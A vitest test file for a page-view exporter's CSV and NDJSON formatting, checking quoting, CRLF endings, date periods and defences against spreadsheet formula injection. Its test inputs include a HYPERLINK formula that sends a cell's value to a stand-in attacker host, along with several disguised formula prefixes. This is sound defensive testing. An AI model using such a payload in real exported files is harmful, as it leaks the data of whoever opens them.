import { expect, test } from 'vitest'
import { createFormat } from '../../../src/page-views/format.ts'
import { period, row } from './site.ts'

const WEEK = period('2026-11-16', '2026-11-23')
const DATES = '2026-11-16,2026-11-23'

function writeCsv(...paths: string[]): string {
  const { head, formatRow } = createFormat('.csv', WEEK)
  return head + paths.map((path) => formatRow(row(path, 1))).join('')
}

test('CSV: a header and lines that end in CRLF, each with its period; whole days are dates', () => {
  expect(writeCsv('/a', '/b')).toBe(`dateFrom,dateTo,path,human,ai,total\r\n${DATES},/a,1,0,1\r\n${DATES},/b,1,0,1\r\n`)
  const { formatRow } = createFormat('.csv', { fromMs: undefined, toMs: WEEK.toMs + 500 })
  expect(formatRow(row('/a', 2, 3))).toBe(',2026-11-23T00:00:00.500Z,/a,2,3,5\r\n')
})

test('NDJSON: an object per line, without unknown fields of a row', () => {
  const { head, formatRow } = createFormat('.ndjson', WEEK)
  const odd = { ...row('/"a\\\n\ud83d', 1, 2), change: '=1+1' }
  const dates = { dateFrom: '2026-11-16', dateTo: '2026-11-23' }
  expect(head + formatRow(odd)).toBe(`${JSON.stringify({ ...dates, ...row('/"a\\\n\ud83d', 1, 2) })}\n`)
})

test.each([
  ['/a,b', '"/a,b"'],
  ['/say "hi"', '"/say ""hi"""'],
  ['/a\nb', '"/a\nb"'],
  ['/a\rb', '"/a\rb"'],
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
  ['\t=1', `"'\t'=1"`],
  ['\u200b=1', "'\u200b=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['＝1', "'＝1"],
  ['/a;=1', `"/a;'=1"`],
  ['/a\t =1', `"/a\t '=1"`],
  ['/a\n@b=1', `"/a\n'@b=1"`],
])('CSV: the path %j is written as %j', (path, cell) => {
  expect(writeCsv(path)).toContain(`\r\n${DATES},${cell},1,0,1\r\n`)
})
